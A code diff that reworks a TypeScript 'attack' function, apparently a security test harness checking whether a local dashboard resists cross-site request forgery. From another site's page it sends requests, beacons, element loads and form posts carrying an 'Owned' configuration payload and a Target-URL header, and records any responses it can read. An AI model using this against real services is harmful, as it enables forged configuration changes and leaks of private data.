@@ -1,8 +1,19 @@
-/** What a page of another site can try at an address without asking anybody. Runs in that page. */
-export async function attack(urls: readonly string[]): Promise<string[]> {
+/** An address, and in how many ways it is tried. */
+export interface Target {
+  url: string;
+  /** By every kind of element, form and window; otherwise by one of each kind that servers can tell apart. */
+  isThorough: boolean;
+}
+
+/**
+ * What a page of another site can try at an address without asking anybody, and what it got to read. Runs in that page.
+ * Requests that a browser refuses to make at all (of another origin in the mode `same-origin`, a PUT without CORS) are
+ * not among it: no server is asked by them.
+ */
+export async function attack(targets: readonly Target[]): Promise<string[]> {
   const reads: string[] = [];
   const json =
-    '{"config":"pageInfo: {title: Owned}","filename":"","userData":"x","subHash":"0123456789abcdef","x":"="}';
+    '{"config":"sections: [{name: Owned}]","filename":"","userData":"x","subHash":"0123456789abcdef","x":"="}';
   const timeout = 1500;
   const within = (work: Promise<unknown>) =>
     Promise.race([work, new Promise((resolve) => setTimeout(resolve, timeout))]).catch(() => undefined);
@@ -34,10 +45,14 @@ export async function attack(urls: readonly string[]): Promise<string[]> {
             found = undefined;
           }
           if (found) note(tag, Object.values(attributes)[0] ?? '', found);
+          node.remove();
           resolve();
         };
         node.onload = inspect;
-        node.onerror = () => resolve();
+        node.onerror = () => {
+          node.remove();
+          resolve();
+        };
         node.addEventListener('loadeddata', inspect);
         document.body.append(node);
       }),
@@ -63,7 +78,11 @@ export async function attack(urls: readonly string[]): Promise<string[]> {
         [field.name, field.value] = [json.slice(0, json.indexOf('=')), json.slice(json.indexOf('=') + 1)];
         form.append(field);
         document.body.append(form);
-        frame.onload = () => resolve();
+        frame.onload = () => {
+          frame.remove();
+          form.remove();
+          resolve();
+        };
         form.submit();
       }),
     );
@@ -93,53 +112,65 @@ export async function attack(urls: readonly string[]): Promise<string[]> {
       })(),
     );
 
-  const attackOne = async (url: string) => {
-    const work: Promise<unknown>[] = [];
-    for (const method of ['GET', 'HEAD', 'POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS']) {
-      const body = method === 'GET' || method === 'HEAD' ? {} : { body: json };
-      for (const mode of ['cors', 'no-cors', 'same-origin'] as const) {
-        work.push(fetching(url, { method, mode, referrerPolicy: 'no-referrer', ...body }));
-      }
-      const headers = {
-        'Content-Type': 'application/json',
-        'Target-URL': 'http://127.0.0.1/',
-        Prefer: 'respond-async',
-      };
-      work.push(fetching(url, { method, mode: 'cors', headers, ...body }));
-    }
-    work.push(fetching(url, { method: 'GET', mode: 'no-cors', referrerPolicy: 'unsafe-url' }));
-    work.push(fetching(url, { method: 'GET', mode: 'no-cors', headers: { Accept: 'text/event-stream' } }));
-    work.push(
+  const image = (node: HTMLElement) => (node as HTMLImageElement).naturalWidth;
+  const form = 'application/x-www-form-urlencoded';
+
+  /** By what says different things of where it is from, or carries different things: all that a server can go by. */
+  const attackInEachWay = (url: string): Promise<unknown>[] => {
+    navigator.sendBeacon(url, json);
+    navigator.sendBeacon(url, new Blob([json], { type: form }));
+    const silent = { referrerPolicy: 'no-referrer' } as const;
+    const headers = { 'Content-Type': 'application/json', 'Target-URL': 'http://127.0.0.1/', Prefer: 'respond-async' };
+    return [
+      ...['GET', 'HEAD', 'POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS'].map((method) =>
+        fetching(url, { method, mode: 'cors', ...silent, ...(/GET|HEAD/.test(method) ? {} : { body: json }) }),
+      ),
+      fetching(url, { method: 'GET', mode: 'cors', headers }),
+      fetching(url, { method: 'POST', mode: 'cors', headers, body: json }),
+      fetching(url, { method: 'GET', mode: 'no-cors', ...silent }),
+      fetching(url, { method: 'GET', mode: 'no-cors', referrerPolicy: 'unsafe-url' }),
+      fetching(url, { method: 'GET', mode: 'no-cors', headers: { Accept: 'text/event-stream' } }),
+      fetching(url, { method: 'HEAD', mode: 'no-cors', ...silent }),
+      fetching(url, { method: 'POST', mode: 'no-cors', ...silent, body: json }),
       fetching(url, { method: 'POST', mode: 'no-cors', redirect: 'manual', body: new URLSearchParams({ json }) }),
-    );
-    work.push(
-      element('img', { src: url }, (node) => (node as HTMLImageElement).naturalWidth),
-      element('img', { src: url, crossorigin: 'use-credentials' }, loaded),
+      element('img', { src: url }, image),
       element('script', { src: url }, loaded),
+      element('iframe', { src: url }, inside),
+      submitting(url, 'post', 'text/plain'),
+    ];
+  };
+
+  /** By whatever else makes a browser ask for it: for a server it is one of those above. */
+  const attackByAllElse = (url: string): Promise<unknown>[] => {
+    // Nothing tells a page when these are there.
+    for (const rel of ['prefetch', 'manifest']) void element('link', { href: url, rel }, () => undefined);
+    void element('embed', { src: url }, () => undefined);
+    const work = [
+      element('img', { src: url, crossorigin: 'use-credentials' }, loaded),
       element('script', { src: url, type: 'module' }, loaded),
       element('link', { href: url, rel: 'stylesheet' }, (node) => (node as HTMLLinkElement).sheet?.cssRules.length),
-      element('link', { href: url, rel: 'prefetch' }, () => undefined),
       element('link', { href: url, rel: 'preload', as: 'image' }, () => undefined),
-      element('link', { href: url, rel: 'manifest' }, () => undefined),
-      element('iframe', { src: url }, inside),
       element('iframe', { src: url, sandbox: 'allow-scripts allow-forms' }, inside),
       element('object', { data: url }, inside),
-      element('embed', { src: url }, () => undefined),
       element('video', { src: url }, loaded),
       element('audio', { src: url }, loaded),
-    );
-    for (const enctype of ['application/x-www-form-urlencoded', 'multipart/form-data', 'text/plain']) {
-      work.push(submitting(url, 'post', enctype));
-    }
-    work.push(submitting(url, 'get', 'application/x-www-form-urlencoded'), listening(url));
+      submitting(url, 'post', form),
+      submitting(url, 'post', 'multipart/form-data'),
+      submitting(url, 'get', form),
+      listening(url),
+    ];
     // A window with the dashboard itself is a visit to it: its own page has the services asked.
     const { pathname } = new URL(url);
     if (pathname !== '/' && !pathname.startsWith('/home/')) work.push(opening(url));
-    navigator.sendBeacon(url, json);
-    navigator.sendBeacon(url, new Blob([json], { type: 'application/x-www-form-urlencoded' }));
-    await Promise.all(work);
+    return work;
   };
+
   // A few at a time: a browser has six connections to a server.
-  for (let from = 0; from < urls.length; from += 6) await Promise.all(urls.slice(from, from + 6).map(attackOne));
+  for (let from = 0; from < targets.length; from += 6) {
+    const work = targets
+      .slice(from, from + 6)
+      .flatMap(({ url, isThorough }) => [...attackInEachWay(url), ...(isThorough ? attackByAllElse(url) : [])]);
+    await Promise.all(work);
+  }
   return reads;
 }
